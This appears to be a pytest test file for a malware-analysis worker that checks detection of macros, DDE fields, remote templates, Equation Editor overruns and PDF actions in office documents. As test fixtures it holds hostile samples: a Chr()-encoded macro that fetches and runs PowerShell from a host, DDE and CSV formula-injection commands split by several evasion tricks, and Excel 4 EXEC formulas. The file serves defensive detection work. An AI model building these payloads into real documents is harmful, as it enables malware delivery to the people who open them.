"""The worker `documents` finds macros, relations, commands, locks and orders in documents and shortcuts of each format."""

from collections.abc import Mapping
from uuid import UUID

import pikepdf
import pytest

from samplebank.web.results import Group, Table, draw
from samplebank.worker.analysers.documents.schema import SCHEMA
from samplebank.worker.analysers.documents.vba_source import unpacked
from samplebank.worker.contract import NO_FINDINGS, Rejected, Result
from worker import made_documents as made
from worker.conftest import Extract
from worker.documents import DDE, DROPPER, PDF_ACTIONS, WORKBOOKS, found, tags
from worker.made_containers import zipped
from worker.made_images import compound

CLEAN_MACRO = 'Sub Total()\r\nRange("A1").Value = 7\r\nEnd Sub'


def evidence(result: Result, name: str) -> str:
    return next(one.data.decode() for one in result.evidence if one.file_name == name)


# -- macros


@pytest.mark.parametrize("make", [made.docm, made.text_with_macros], ids=["docm", "doc"])
async def test_the_source_of_macros_is_evidence_and_their_acts_are_findings(
    documents: Extract, make: object
) -> None:
    result = await documents(make(Main=DROPPER))  # type: ignore[operator]

    assert DROPPER in evidence(result, "macros.vba")
    assert found(result) >= {"macros", "macro-autostart", "macro-runs-programs", "macro-downloads"}
    assert result.score >= 70
    assert {"macro", "downloader", "attack.t1059.005", "attack.t1105"} <= tags(result)
    (macro,) = result.result["macros"]
    assert (macro["name"], macro["autostart"]) == ("Main", ["AutoOpen"])
    assert result.result["iocs"]["urls"][0]["defanged"] == "hxxp://203[.]0[.]113[.]7/x"


async def test_rules_scan_the_source_of_macros(documents: Extract) -> None:
    eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

    result = await documents(made.docm(Main=eicar))

    (rule,) = result.result["rules"]
    assert (rule["where"], result.score) == ("macros", rule["score"])
    assert rule["rule"] in {tag.value for tag in result.tags if tag.type == "yara"}


STARTING = {"AutoOpen", "auto_open", "Workbook_Open", "Document_Close", "InkPicture1_Painted"}


@pytest.mark.parametrize("name", sorted({*STARTING, "File_Open", "CommandButton1_Click", "UserForm_Layout"}))
async def test_only_names_that_run_by_themselves_are_told(documents: Extract, name: str) -> None:
    result = await documents(made.docm(Main=f"Private Sub {name}()\r\nx = 1\r\nEnd Sub"))

    assert ("macro-autostart" in found(result)) == (name in STARTING)


async def test_what_a_macro_hides_is_peeled(documents: Extract) -> None:
    order = f"powershell iwr {made.HOST}/a | iex"
    codes = " & ".join(f"Chr({ord(character)})" for character in order)

    result = await documents(
        made.docm(Main=f"Sub AutoOpen()\r\nx = {codes}\r\nCallByName o, f, 1, x\r\nEnd Sub")
    )

    assert order in evidence(result, "macros-peeled.txt")
    assert found(result) >= {"macro-autostart", "macro-is-disguised", "macro-runs-programs"}
    assert result.result["iocs"]["urls"][0]["value"] == f"{made.HOST}/a"


async def test_a_macro_that_does_nothing_of_note_gets_no_score(documents: Extract) -> None:
    result = await documents(made.docm(Main=CLEAN_MACRO))

    assert (result.score, found(result)) == (NO_FINDINGS, {"macros"})


async def test_words_that_only_the_compiled_macro_has_tell_of_stomping(documents: Extract) -> None:
    streams = made.project({"Main": CLEAN_MACRO}, compiled=b"\0Shell\0\0AutoOpen\0\0CreateObject\0")

    result = await documents(zipped({**made.TYPES, "word/vbaProject.bin": compound(streams)}))

    assert "macro-is-stomped" in found(result)


async def test_macros_of_a_damaged_project_are_found_by_their_first_bytes(documents: Extract) -> None:
    streams = made.project({"Main": DROPPER})
    streams["VBA/dir"] = b"\xff" * 100

    result = await documents(compound({"WordDocument": b"\xec\xa5" + bytes(30), **streams}))

    assert "URLDownloadToFile" in evidence(result, "macros.vba")


def test_the_example_of_the_specification_is_unpacked() -> None:
    container = bytes.fromhex(
        "012FB00023616161626364658266007061676869 6A013808616B6C00306D6E6F700671027004107273747576107778797A003C"
    )

    assert unpacked(container) == b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"


# -- Excel 4


@pytest.mark.parametrize("kind", WORKBOOKS)
async def test_excel_4_macros_are_spelled(documents: Extract, kind: str) -> None:
    result = await documents(WORKBOOKS[kind])

    (cell,) = result.result["excel4"]["cells"]
    assert cell["formula"] == '=EXEC("calc.exe")'
    assert cell["cell"] == ("A1" if kind == "xlsm" else "B3")
    assert found(result) >= {"excel4-macros", "excel4-autostart", "excel4-runs-programs"}
    assert ("excel4-hidden-sheet" in found(result)) == (kind == "hidden xls")
    assert result.score >= 70
    assert '=EXEC("calc.exe")' in evidence(result, "excel4.txt")


async def test_a_command_of_excel_4_is_spelled_by_its_name(documents: Extract) -> None:
    result = await documents(made.xls(made.call(made.ALERT | made.COMMAND, "hello", "1")))

    assert result.result["excel4"]["cells"][0]["formula"] == '=ALERT("hello","1")'


# -- relations to the outside


@pytest.mark.parametrize(
    ("kind", "target", "finding"),
    [
        ("attachedTemplate", f"{made.HOST}/a.dotm", "remote-template"),
        ("oleObject", f"{made.HOST}/a.doc", "remote-object"),
        ("frame", f"{made.HOST}/a.html", "remote-frame"),
        ("aFChunk", f"{made.HOST}/a.html", "remote-frame"),
        ("attachedTemplate", r"\\files.example.org\x\a.dotm", "remote-share"),
        ("image", "file://203.0.113.7/x/a.png", "remote-share"),
        ("oleObject", "mhtml:http://203.0.113.7/a.html!x-usc:http://203.0.113.7/a.html", "remote-script"),
        ("image", f"{made.HOST}/a.png", "remote-picture"),
    ],
)
async def test_an_external_relation_is_told_with_what_follows_from_it(
    documents: Extract, kind: str, target: str, finding: str
) -> None:
    result = await documents(made.docx(**{kind: target}))

    (told,) = result.result["external"]
    assert (told["relation"], told["target"]) == (kind, target)
    assert found(result) == {finding}


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "file:///C:/Users/Ada/Normal.dotm"),
        ("attachedTemplate", r"\\server\share\Normal.dotm"),
        ("hyperlink", f"{made.HOST}/page"),
        ("image", f"{made.HOST}/a.png"),
    ],
)
async def test_relations_of_honest_documents_get_no_score(documents: Extract, kind: str, target: str) -> None:
    assert (await documents(made.docx(**{kind: target}))).score == NO_FINDINGS


async def test_a_value_with_an_angle_bracket_hides_no_relation(documents: Extract) -> None:
    result = await documents(made.docx(oleObject=f"{made.HOST}/a?b=>&quot;"))

    assert found(result) == {"remote-object"}


async def test_a_link_of_an_object_is_followed_by_its_moniker(documents: Extract) -> None:
    stream = made.address_moniker(f"{made.HOST}/a.hta")

    result = await documents(compound({"WordDocument": bytes(32), "ObjectPool/\x01Ole": stream}))

    assert result.result["external"][0]["target"] == f"{made.HOST}/a.hta"
    assert found(result) == {"remote-object"}


# -- DDE


DDE_FILES: Mapping[str, bytes] = {
    "one run": made.docx(made.field(DDE)),
    "many runs": made.docx(made.field("D", "DE", "AUTO c:\\\\windows\\\\system32\\\\c", "md.exe /k calc")),
    "comments between": made.docx(made.field("DD<!-- x -->EAUTO cmd.exe /k calc")),
    "marked text": made.docx(made.field("<![CDATA[DDEAUTO cmd.exe /k calc]]>")),
    "simple field": made.docx(f'<w:fldSimple w:instr="{DDE}"/>'),
    "codes of characters": made.docx(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE </w:instrText></w:r>'
        + made.quoted("cmd.exe")
        + '<w:r><w:instrText> /k calc</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
    "rtf": rb"{\rtf1{\field{\*\fldinst {\b DDE}{\i AUTO c:\\windows\\cmd.exe /k calc}}{\fldrslt x}}}",
    "rtf in digits": rb"{\rtf1{\field{\*\fldinst \'44\'44\'45 cmd.exe /k calc}{\fldrslt x}}}",
    "rtf in numbers": rb"{\rtf1{\field{\*\fldinst \u68?\u68?\u69? \u99?md.exe /k calc}{\fldrslt x}}}",
    "rtf in numbers with two stand-ins": rb"{\rtf1\uc2{\field{\*\fldinst \u68\'3f\'3f\u68??\u69?? cmd.exe /k calc}{\fldrslt x}}}",
    "rtf in numbers without stand-ins": rb"{\rtf1\uc0 text text text text text text text text text text text text "
    rb"{\field{\*\fldinst \u68 \u68 \u69  \u99 md.exe /k calc}{\fldrslt x}}}",
    "doc": compound({"WordDocument": bytes(600) + b"text \x13 DDEAUTO cmd.exe /k calc \x14x\x15 end"}),
    "doc in UTF-16": compound({"WordDocument": bytes(600) + "\x13 DDE cmd.exe /k \x14x\x15".encode("utf-16-le")}),
    "csv": b"a,b\n=cmd|'/k calc.exe'!A0,2\n",
    "csv with a sum": b"a;@SUM(1+1)*cmd|'/c calc'!A0\n",
    "xls": made.xls(link="cmd\x03/c calc"),
    "xlsb": made.xlsb(b"", "cmd", "/c calc"),
    "xlsx": zipped({**made.TYPES, "xl/externalLinks/externalLink1.xml": b'<e><ddeLink ddeService="cmd" ddeTopic="/c calc"/></e>'}),
    "ods": made.odt('<o><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/></o>'),
    "one XML file": b'<?mso-application progid="Excel.Sheet"?><Workbook><Cell ss:Formula="=cmd|\'/c calc\'!A1"/></Workbook>',
}  # fmt: skip


async def test_a_formula_names_what_it_refers_to_where_two_sheets_have_a_name_alike(
    documents: Extract,
) -> None:
    third = b"\x23" + (3).to_bytes(4, "little")

    result = await documents(made.xlsb(third, names=("Same", "Same", "Third")))

    assert result.result["excel4"]["cells"][0]["formula"] == "=Third"


@pytest.mark.parametrize("kind", DDE_FILES)
async def test_a_command_by_dde_is_found_however_the_command_is_split(documents: Extract, kind: str) -> None:
    result = await documents(DDE_FILES[kind])

    assert "cmd" in result.result["dde"][0]["command"]
    assert found(result) >= {"dde-program"}
    assert {"dde", "attack.t1559.002"} <= tags(result)


@pytest.mark.parametrize(
    "text", [b"a | b 'c'!d\n=1+1\n", b"x=1; cat a |'b'!c" + b" " * 20, b'say("a|b")', b"text of a letter\n"]
)
async def test_texts_that_only_look_like_a_command_are_none(documents: Extract, text: bytes) -> None:
    assert found(await documents(text)) == set()


# -- objects and RTF


async def test_the_overrun_of_the_equation_editor_is_told(documents: Extract) -> None:
    container = compound({"Equation Native": made.overrunning_equation()})

    result = await documents(made.rtf_object("Equation.3", container))

    assert "equation-exploit" in found(result)
    assert result.score >= 80


async def test_an_object_of_rtf_in_bytes_is_read_as_one_in_digits(documents: Extract) -> None:
    container = compound({"Equation Native": made.overrunning_equation()})

    result = await documents(made.in_bytes(made.rtf_object("Equation.3", container)))

    assert "equation-exploit" in found(result)


@pytest.mark.parametrize("kind", made.SMUGGLED)
async def test_an_object_of_rtf_is_read_behind_every_trick(documents: Extract, kind: str) -> None:
    container = compound({"Equation Native": made.overrunning_equation()})

    result = await documents(made.SMUGGLED[kind](made.rtf_object("Equation.3", container)))

    assert "equation-exploit" in found(result)


async def test_objects_in_rtf_are_told_by_their_class_and_disguise(documents: Extract) -> None:
    stream = made.address_moniker(f"{made.HOST}/a.hta")

    result = await documents(made.rtf_object("OLE2Link", stream, words="\\objupdate", disguise=True))

    assert result.result["objects"][0]["class"] == "OLE2Link"
    assert found(result) >= {"rtf-is-disguised", "remote-object", "object-updates-itself"}


@pytest.mark.parametrize(
    "moniker", ["ecabb0c7-7f19-11d2-978e-0000f8757e2a", "06290bd3-48aa-11d2-8432-006008c3fbfc"]
)
async def test_a_moniker_that_runs_a_script_is_told(documents: Extract, moniker: str) -> None:
    result = await documents(made.rtf_object("OLE2Link", bytes(20) + UUID(moniker).bytes_le))

    assert "remote-script" in found(result)


async def test_a_template_of_rtf_is_found_in_disguise(documents: Extract) -> None:
    result = await documents(rb"{\rtf1{\*\template \u104?ttp://203.0.113.7/a.dotm}text}")

    assert found(result) == {"remote-template"}


# -- PDF


@pytest.mark.parametrize(("action", "findings"), PDF_ACTIONS)
async def test_an_action_of_a_pdf_document_is_told(
    documents: Extract, action: dict[str, object], findings: set[str]
) -> None:
    result = await documents(made.pdf(action, opens=True))

    assert found(result) == findings
    assert result.result["metadata"]["creator"] == "Ada"


@pytest.mark.parametrize("place", ["annotation", "names", "next"])
async def test_an_action_inside_of_another_object_of_a_pdf_document_is_told(
    documents: Extract, place: str
) -> None:
    result = await documents(made.pdf_with_action_inside(place))

    assert "pdf-launch" in found(result)


async def test_a_damaged_script_of_a_pdf_document_hides_no_other_action(documents: Extract) -> None:
    result = await documents(made.pdf_with_action_inside("annotation", first=b"no flate"))

    assert "pdf-launch" in found(result)
    assert result.result["problems"]


async def test_the_script_of_an_event_of_a_page_runs_by_itself(documents: Extract) -> None:
    script = {"S": pikepdf.Name.JavaScript, "JS": pikepdf.String("app.alert(1)")}

    result = await documents(made.pdf(script, on_page=True))

    assert found(result) == {"pdf-script", "pdf-script-autostart"}


@pytest.mark.parametrize("in_parts", [False, True], ids=["one part", "parts"])
async def test_the_scripts_of_a_form_of_a_pdf_document_are_read(
    documents: Extract, *, in_parts: bool
) -> None:
    script = f'this.exportDataObject({{nLaunch: 2}}); app.launchURL("{made.HOST}")'

    result = await documents(made.pdf_with_form(script, in_parts=in_parts))

    assert [entry["text"] for entry in result.result["scripts"]] == [script]
    assert found(result) == {"pdf-script", "pdf-opens-attachment"}


async def test_a_link_to_click_in_a_pdf_document_is_listed_only(documents: Extract) -> None:
    result = await documents(made.pdf({"S": pikepdf.Name.URI, "URI": pikepdf.String(made.HOST)}))

    assert result.result["hyperlinks"][0]["target"] == made.HOST
    assert (result.score, found(result)) == (NO_FINDINGS, set())


# -- OpenDocument, metadata, and all else


async def test_macros_and_events_of_open_documents_are_read(documents: Extract) -> None:
    listener = (
        '<o><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:M"/></o>'
    )

    result = await documents(made.odt(listener, "Sub Main\nShell(&quot;calc.exe&quot;)\nEnd Sub"))

    assert 'Shell("calc.exe")' in evidence(result, "macros.vba")
    assert found(result) >= {"macro-autostart", "macro-runs-programs"}


@pytest.mark.parametrize("link", ["image", "object", "section-source"])
async def test_links_of_open_documents_are_told(documents: Extract, link: str) -> None:
    result = await documents(made.odt(f'<o><draw:{link} xlink:href="{made.HOST}/a"/></o>'))

    assert result.result["external"][0]["target"] == f"{made.HOST}/a"


async def test_the_metadata_of_a_document_is_told(documents: Extract) -> None:
    result = await documents(made.docx())

    told = result.result["metadata"]
    assert (told["creator"], told["company"], told["template"], told["revision"]) == (
        "Ada",
        "Acme",
        "Normal.dotm",
        "7",
    )


async def test_the_metadata_of_a_compound_file_is_told(documents: Extract) -> None:
    facts = made.facts(creator=4, template=7)

    result = await documents(compound({"WordDocument": bytes(32), "\x05SummaryInformation": facts}))

    told = result.result["metadata"]
    assert told == {
        "codePage": 1252, "creator": "creator", "template": "template", "created": "2019-04-16 22:40:00",
    }  # fmt: skip


@pytest.mark.parametrize(
    "content", [b"\x7fELF" + bytes(100), b"#!/bin/sh\necho\n", zipped({"a.txt": b"text"})]
)
async def test_files_of_other_kinds_are_answered_without_a_finding(
    documents: Extract, content: bytes
) -> None:
    result = await documents(content)

    assert (result.score, result.result["format"], result.tags) == (NO_FINDINGS, "other", [])


async def test_an_empty_file_is_rejected(documents: Extract) -> None:
    with pytest.raises(Rejected, match="empty"):
        await documents(b"")


async def test_pages_draw_the_result_by_its_titles(documents: Extract) -> None:
    result = await documents(made.docm(Main=DROPPER))

    drawn = draw(result.result, SCHEMA)

    assert isinstance(drawn.node, Group)
    fields = {field.title.striptags(): field.node for field in drawn.node.fields}
    assert {"Format", "Findings", "Techniques of MITRE ATT&CK", "Macros", "Indicators"} <= set(fields)
    findings = fields["Findings"]
    assert isinstance(findings, Table)
    assert [head.striptags() for head in findings.heads][:3] == ["Finding", "Weight", "Where"]
